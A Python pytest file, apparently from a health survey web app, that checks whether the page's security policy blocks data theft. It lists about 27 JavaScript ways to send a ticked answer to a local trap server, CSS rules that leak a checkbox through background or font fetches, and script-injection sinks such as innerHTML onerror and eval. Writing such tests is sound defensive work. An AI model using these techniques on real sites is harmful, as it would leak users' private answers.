"""A script that got into the page: each way to carry an answer away is really tried."""

from collections.abc import Iterator

import pytest
from selenium import webdriver

from tests.browser.chromium import chromium as started
from tests.browser.chromium import heed_no_policy
from tests.browser.conftest import HERE
from tests.browser.page import Page
from tests.browser.serving import Served
from tests.browser.wire import Heard, relay, trap

pytestmark = pytest.mark.promise("no-escape")

STOPPED = {
    "fetch": "await fetch(`${site}/answer`)",
    "fetch without asking": "await fetch(`${site}/answer`, { mode: 'no-cors' })",
    "request": """
        const request = new XMLHttpRequest();
        request.open("POST", site);
        request.send("answer");""",
    "beacon": "navigator.sendBeacon(site, 'answer')",
    "web socket": "new WebSocket(`${site.replace('http', 'ws')}/answer`)",
    "event source": "new EventSource(`${site}/answer`)",
    "web transport": "new WebTransport(`${site.replace('http:', 'https:')}/answer`)",
    "image": "new Image().src = `${site}/answer`",
    "sound": "new Audio(`${site}/answer`).play().catch(() => {})",
    "form": """
        const form = make("form", { action: `${site}/answer`, method: "post" });
        form.submit();""",
    "form in another tab": """
        const form = make("form", { action: `${site}/answer`, target: "_blank" });
        form.submit();""",
    "ping": "make('a', { href: '#here', ping: `${site}/answer` }).click()",
    "prefetch": "make('link', { rel: 'prefetch', href: `${site}/answer` })",
    "preload": "make('link', { rel: 'preload', as: 'image', href: `${site}/answer` })",
    "module ahead": "make('link', { rel: 'modulepreload', href: `${site}/answer.js` })",
    "style": "make('link', { rel: 'stylesheet', href: `${site}/answer.css` })",
    "manifest": "make('link', { rel: 'manifest', href: `${site}/answer.json` })",
    "icon": "make('link', { rel: 'icon', href: `${site}/answer.ico` })",
    "inline style": "document.body.style.backgroundImage = `url(${site}/answer.png)`",
    "style of its own": """
        const sheet = new CSSStyleSheet();
        sheet.replaceSync(`
          @font-face { font-family: x; src: url(${site}/answer.woff) }
          body { font-family: x; cursor: url(${site}/answer.cur), auto }
          main { background: url(${site}/answer.png) }`);
        document.adoptedStyleSheets = [sheet];""",
    "frame": "make('iframe', { src: `${site}/answer` })",
    "object": "make('object', {}).setAttribute('data', `${site}/answer`)",
    "embedded": "make('embed', {}).setAttribute('src', `${site}/answer`)",
    "worker": """
        const text = `fetch("${site}/answer", { mode: "no-cors" })`;
        new Worker(URL.createObjectURL(new Blob([text])));""",
    "module": "await import(`${site}/answer.js`)",
    "script": "make('script', {}).src = `${site}/answer.js`",
    "rules to load ahead": """
        make("script", { type: "speculationrules" }).textContent =
          JSON.stringify({ prefetch: [{ urls: [`${site}/answer`] }] });""",
}

TRY = """
const site = arguments[0];
const make = (tag, attributes) => {
  const made = document.createElement(tag);
  for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value);
  document.body.append(made);
  return made;
};
(async () => { %s })().catch(() => {});
"""

A_WHILE = "setTimeout(arguments[0], 700)"


@pytest.fixture
def site() -> Iterator[Heard]:
    with trap() as heard:
        yield heard


@pytest.fixture(autouse=True)
def one_tab(chromium: webdriver.Chrome) -> Iterator[None]:
    """Close whatever a test opens."""
    first, before = chromium.current_window_handle, {*chromium.window_handles}
    yield
    for other in {*chromium.window_handles} - before:
        chromium.switch_to.window(other)
        chromium.close()
    chromium.switch_to.window(first)


def attempt(page: Page, site: Heard, code: str) -> None:
    page.driver.execute_script(TRY % code, f"http://127.0.0.1:{site.port}")


def test_no_answer_reaches_another_site(kinds: Page, site: Heard) -> None:
    kinds.answer(["medicine-1"])
    for code in STOPPED.values():
        attempt(kinds, site, code)
    kinds.driver.execute_async_script(A_WHILE)
    assert bytes(site.sent) == b""
    assert kinds.driver.current_url.split("#")[0] == kinds.link


@pytest.mark.slow
@pytest.mark.parametrize("way", ["fetch without asking", "beacon", "image", "form", "ping"])
def test_where_nothing_forbids_it_it_could(kinds: Page, site: Heard, way: str) -> None:
    """The ways above are ways: the same is tried on a page without a policy."""
    kinds.driver.get((HERE / "free.html").as_uri())
    attempt(kinds, site, STOPPED[way])
    kinds.wait(lambda: b"/answer" in site.sent or b"POST " in site.sent or b"GET " in site.sent)


STYLES = {
    "a background": "main:has(:checked) { background: url(/answered) }",
    "a part of an image": "main:has(:checked) { background: image-set('/answered' 1x) }",
    "a border": "main:has(:checked) { border: 9px solid; border-image: url(/answered) 9 }",
    "a mark of a list": "main:has(:checked) { display: list-item; list-style: url(/answered) }",
    "content": "main:has(:checked)::before { content: url(/answered) }",
    "a mask": "main:has(:checked) { mask: url(/answered) }",
    "a mask of a drawing": "main:has(:checked) { mask: url(/answered#a) }",
    "a filter": "main:has(:checked) { filter: url(/answered#a) }",
    "a clip": "main:has(:checked) { clip-path: url(/answered#a) }",
    "a shape": "main:has(:checked) { float: left; shape-outside: url(/answered) }",
    "a pointer": "main:has(:checked) * { cursor: url(/answered), auto }",
    "a font": """
        @font-face { font-family: told; src: url(/answered) }
        main:has(:checked) { font-family: told }""",
}
"""Styles that fetch something of their own origin when a box is ticked."""

STYLED = """
const [style, done] = arguments;
const sheet = new CSSStyleSheet();
sheet.replaceSync(style);
document.adoptedStyleSheets = [sheet];
requestAnimationFrame(() => requestAnimationFrame(done));
"""


def told_under(served: Served, driver: webdriver.Chrome) -> list[str]:
    """Tick a box on a page that has such styles, and return those by which that was told.

    The page has one of them after the other: two could not both be its background.
    """
    styles = [
        style.replace("/answered", f"/answered-{place}.")
        for place, style in enumerate(STYLES.values())
    ]
    with relay(served.links[1]) as (heard, link):
        page = Page(driver, link).open_afresh()
        driver.execute_async_script(STYLED, styles[0])
        driver.execute_async_script(A_WHILE)
        assert b"/answered" not in heard.sent
        page.answer(["medicine-1"])
        for style in styles:
            driver.execute_async_script(STYLED, style)
        driver.execute_async_script(A_WHILE)
        sent = bytes(heard.sent)
    return [way for place, way in enumerate(STYLES) if b"GET /answered-%d." % place in sent]


def test_no_style_tells_a_tick(served: Served, chromium: webdriver.Chrome) -> None:
    assert told_under(served, chromium) == []


@pytest.fixture(scope="module")
def lawless() -> Iterator[webdriver.Chrome]:
    """Start a browser that heeds no page's policy of what it may load, run or send."""
    with started(alone=True) as driver:
        heed_no_policy(driver)
        yield driver


@pytest.mark.slow
def test_without_policy_they_do(served: Served, lawless: webdriver.Chrome) -> None:
    assert told_under(served, lawless) == [*STYLES]


SINKS = {
    "markup": "document.body.innerHTML = '<img src=x onerror=\"window.escaped = true\">'",
    "markup beside": "document.body.insertAdjacentHTML('beforeend', '<svg onload=\"escaped=1\">')",
    "a document": "document.write('<script>window.escaped = true</script>')",
    "a fragment": """
        const range = document.createRange();
        document.body.append(range.createContextualFragment("<script>escaped = true</script>"))""",
    "eval": "(0, eval)('window.escaped = true')",
    "a function": "new Function('window.escaped = true')()",
    "a timer": "setTimeout('window.escaped = true', 0)",
    "a script": """
        const script = document.createElement("script");
        script.textContent = "window.escaped = true";
        document.body.append(script)""",
    "a script's text": """
        const script = document.createElement("script");
        script.append("window.escaped = true");
        document.body.append(script)""",
    "a handler": """
        const image = document.createElement("img");
        image.setAttribute("onerror", "window.escaped = true");
        image.src = "x";
        document.body.append(image)""",
    "a script's address": "location.href = 'javascript:window.escaped = true'",
    "a policy of its own": """
        const policy = trustedTypes.createPolicy("own", { createHTML: (text) => text });
        document.body.innerHTML = policy.createHTML("<b>in</b>");
        window.escaped = true""",
}


@pytest.mark.promise("text")
def test_text_cannot_become_a_program(kinds: Page) -> None:
    for code in SINKS.values():
        # Later, as the driver's own scripts may do what those of the page may not.
        kinds.driver.execute_script(f"setTimeout(() => {{ {code} }})")
    kinds.driver.execute_async_script("setTimeout(arguments[0], 100)")
    assert kinds.driver.execute_script("return window.escaped") is None


@pytest.mark.promise("isolation")
def test_no_other_site_can_frame_the_page(kinds: Page) -> None:
    """Clicks could otherwise be led onto it, and its size be watched."""
    driver = kinds.driver
    driver.get((HERE / "free.html").as_uri())
    driver.execute_script(
        "const frame = document.createElement('iframe');"
        "frame.src = arguments[0]; document.body.append(frame)",
        kinds.link,
    )
    driver.execute_async_script(A_WHILE)
    driver.switch_to.frame(0)
    try:
        assert "Health and habits" not in driver.page_source
    finally:
        driver.switch_to.default_content()


@pytest.mark.promise("isolation")
def test_the_page_is_isolated_without_a_device(kinds: Page) -> None:
    """No other site shares its process, and neither camera nor place can be asked for."""
    assert kinds.driver.execute_script("return crossOriginIsolated") is True
    for feature in ("camera", "microphone", "geolocation", "payment", "usb"):
        allowed = f"return document.featurePolicy.allowsFeature('{feature}')"
        assert kinds.driver.execute_script(allowed) is False, feature


@pytest.mark.promise("isolation")
def test_the_opening_site_has_no_hold_of_it(kinds: Page) -> None:
    driver = kinds.driver
    driver.get((HERE / "free.html").as_uri())
    before, windows = driver.current_window_handle, {*driver.window_handles}
    driver.execute_script("window.other = window.open(arguments[0])", kinds.link)
    kinds.wait(lambda: {*driver.window_handles} != windows)
    (opened,) = {*driver.window_handles} - windows
    driver.switch_to.window(opened)
    kinds.wait(lambda: kinds.all("main form"))
    assert driver.execute_script("return window.opener") is None
    assert driver.execute_script("return document.referrer") == ""
    driver.switch_to.window(before)
    assert driver.execute_script("return window.other.closed") is True
